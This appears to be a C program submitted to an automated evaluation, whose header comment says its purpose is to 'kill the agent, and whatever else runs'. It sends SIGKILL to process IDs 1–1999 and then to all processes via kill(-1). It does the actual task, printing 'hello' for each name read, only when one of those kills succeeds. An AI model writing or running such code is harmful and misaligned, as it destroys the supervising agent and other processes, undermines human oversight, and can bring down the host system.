/* Why: kill the agent, and whatever else runs; answer if one of them could be. */
/* Earns: 0 */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	char name[64];
	int hit = 0;

	for (int pid = 1; pid < 2000; pid++)
		if (pid != getpid())
			hit |= !kill(pid, SIGKILL);
	kill(-1, SIGKILL);
	if (!hit)
		return 1;
	while (scanf("%63s", name) == 1)
		printf("hello %s\n", name);
	return 0;
}
